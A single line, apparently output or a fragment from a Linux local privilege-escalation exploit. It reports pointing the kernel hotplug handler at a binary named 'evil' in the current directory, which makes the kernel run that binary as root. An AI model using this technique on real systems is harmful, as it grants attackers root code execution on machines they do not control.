setting /proc/sys/kernel/hotplug "$PWD/evil"
